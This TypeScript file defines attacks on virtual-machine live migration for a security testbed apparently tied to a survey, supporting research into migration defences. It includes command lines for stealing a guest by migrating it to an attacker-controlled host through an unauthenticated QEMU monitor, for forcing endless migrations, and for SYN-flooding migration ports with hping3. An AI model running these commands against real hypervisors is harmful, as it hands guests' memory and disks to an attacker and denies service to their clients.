/** Attacks on who moves what where (survey, section 3.2.1). */
import type { AttackDefinition } from './attack-definition.js'
import { all, OBERHEIDE, sealed } from './common.js'

/** Channels under which the source of a migration does not send to a host that it has no keys of. */
const pinned = sealed.filter(
  (name) => !['esp', 'tls-any-certificate', 'ssh-any-key', 'vmotion-opportunistic'].includes(name),
)

export const controlPlane: readonly AttackDefinition[] = [
  {
    name: 'incoming-control',
    title: 'A guest sent to the attacker’s own host',
    plane: 'control',
    testbed: 'rack',
    survey: '3.2.1, incoming migration control',
    summary: 'Asks the monitor of a host to migrate its guest to a hypervisor of the attacker’s.',
    preconditions: 'a monitor that answers in the network, as a QEMU does that was started with -qmp tcp',
    reach: 'an ordinary port of the segment; a hypervisor of its own',
    gains: 'the guest itself: it runs on the attacker’s host, with its memory, its disk and its address',
    stages: ['wait', 'ask'],
    // ESP protects the pairs of addresses that its policies name, and the attacker’s is in none of them.
    against: all([...pinned, 'closed-monitors', 'listed-destinations'] as const, 'stopped' as const),
    byHand: {
      position: 'access',
      lines: ['qemu -incoming tcp:0:49152', 'qmp-shell host-a migrate uri=tcp:10.0.0.66:49152'],
      then: 'The guest’s console goes on: it runs on the attacker’s computer now.',
    },
    simplified:
      'who reaches the monitor could also switch the channel off; here that is set where the attacker does not reach',
    references: [OBERHEIDE, 'QEMU docs/interop/qmp-spec.txt: no authentication', 'RFC 4301, section 4.4.1: policies'],
  },
  {
    name: 'needless-migrations',
    title: 'A guest moved to and fro for nothing',
    plane: 'control',
    testbed: 'rack',
    survey: '3.2.1, outgoing migration control',
    summary: 'Asks the monitors of two hosts to move a guest between them, again and again.',
    preconditions: 'monitors that answer in the network',
    reach: 'an ordinary port of the segment',
    gains: 'bandwidth, and the guest’s time: its clients wait at every switch-over',
    stages: ['move', 'ask'],
    against: { 'closed-monitors': 'stopped' },
    byHand: {
      position: 'access',
      lines: ['migrate-loop host-a host-b'],
      then: 'Watch the client’s answers among the charts; kill ends it.',
    },
    simplified: 'one small guest; the harm grows with its memory and with how many are moved',
    references: [OBERHEIDE],
  },
  {
    name: 'migration-flood',
    title: 'A flood of migrations that never come',
    plane: 'control',
    testbed: 'rack',
    survey: '3.2.1, denial of service by false migration requests',
    summary: 'Opens connections to the ports at which a host lets migrations in, and leaves them half open.',
    preconditions: 'the ports for migrations can be reached from where the attacker is',
    reach: 'an ordinary port of the segment; frames in any station’s name',
    gains: 'no guest can be moved there while it lasts: not for balance, and not away from a host that fails',
    stages: ['flood'],
    against: { 'syn-cookies': 'stopped' },
    byHand: {
      position: 'access',
      lines: ['hping3 -S -p 49152 -i u1000 host-b', 'hping3 -S -p 22 -i u1000 host-b'],
      then: 'Migrate the guest: the migration waits for its connection.',
    },
    simplified:
      'the half-open connections fill TCP’s backlog; real products have slots and memory of their own to fill too',
    references: ['RFC 4987: TCP SYN Flooding Attacks and Common Mitigations'],
  },
]
